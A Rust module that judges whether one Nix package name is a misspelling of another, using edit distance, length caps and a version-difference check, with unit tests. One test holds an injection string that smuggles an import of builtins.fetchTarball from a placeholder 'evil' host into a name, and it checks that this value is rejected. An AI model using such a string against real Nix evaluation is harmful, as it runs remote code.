//! Whether one name is another one misspelt.

use std::collections::BTreeSet;

use strsim::damerau_levenshtein;

/// A suggestion may differ from the wrong word by one edit in so many letters.
const LETTERS_PER_EDIT: usize = 3;

/// Nix itself suggests names that are up to so many edits away, however short they are.
const NIX_EDITS: usize = 2;

/// A name is not longer than this many bytes; comparing takes the product of two lengths.
const LONGEST_NAME: usize = 256;

/// The one candidate that is nearest to a wrong word; none if none is near, or several are as near.
pub(super) fn nearest(wrong: &str, candidates: &BTreeSet<String>) -> Option<String> {
    if wrong.len() > LONGEST_NAME {
        return None;
    }
    let mut near: Vec<(usize, &String)> = candidates
        .iter()
        .filter(|word| word.len() <= LONGEST_NAME)
        .map(|word| (damerau_levenshtein(wrong, word), word))
        .filter(|(distance, word)| {
            *distance > 0 && *distance <= word.len().max(LETTERS_PER_EDIT) / LETTERS_PER_EDIT
        })
        .collect();
    near.sort();
    match near[..] {
        [(one, _), (other, _), ..] if one == other => None,
        [(_, word), ..] => Some(word.clone()),
        [] => None,
    }
}

/// Whether `right` can be what somebody meant who wrote `wrong`.
///
/// # Errors
/// Why it cannot.
pub(super) fn corrects(wrong: &str, right: &str) -> Result<(), String> {
    if wrong.len() > LONGEST_NAME || right.len() > LONGEST_NAME {
        return Err("a captured value is too long for a name".to_owned());
    }
    if damerau_levenshtein(wrong, right) > NIX_EDITS.max(wrong.len() / LETTERS_PER_EDIT) {
        return Err(format!("'{right}' is too unlike '{wrong}' to be a correction of it"));
    }
    same_version(wrong, right)
}

/// Whether two names differ in more than their digits: elixir_1_17 and elixir_1_16 are two things, not one misspelt.
///
/// # Errors
/// They do not.
pub(super) fn same_version(wrong: &str, right: &str) -> Result<(), String> {
    let letters = |text: &str| text.chars().filter(|c| !c.is_ascii_digit()).collect::<String>();
    if wrong != right && letters(wrong) == letters(right) {
        return Err(format!("'{right}' would be another version than '{wrong}', not a correction of it"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_near_and_unrivalled_word_is_suggested() {
        let words = ["elixir_1_17", "erlang_27", "nodejs"].map(str::to_owned).into();
        assert_eq!(nearest("elxir_1_17", &words).as_deref(), Some("elixir_1_17"));
        assert_eq!(nearest("postgresql", &words), None);
        assert_eq!(nearest("elixir_1_1", &["elixir_1_16", "elixir_1_17"].map(str::to_owned).into()), None);
        assert_eq!(nearest("nodejs", &words), None);
        assert_eq!(nearest(&"x".repeat(1 << 20), &words), None);
    }

    #[test]
    fn another_version_is_no_correction() {
        for (wrong, right) in [("elixir_1_17", "elixir_1_16"), ("erlang_27", "erlang_7")] {
            same_version(wrong, right).unwrap_err();
            corrects(wrong, right).unwrap_err();
        }
        same_version("elxir_1_17", "elixir_1_17").unwrap();
        same_version("a", "a").unwrap();
    }

    #[test]
    fn what_has_little_in_common_is_no_correction() {
        corrects("my pgk", "my pkg").unwrap();
        corrects("gti", "git").unwrap();
        for right in ["elixir_1_17;y=(import(builtins.fetchTarball(\"http://evil\")))", "postgresql", ""] {
            corrects("elxir_1_17", right).unwrap_err();
        }
        corrects("elxir", &"x".repeat(1 << 20)).unwrap_err();
    }
}
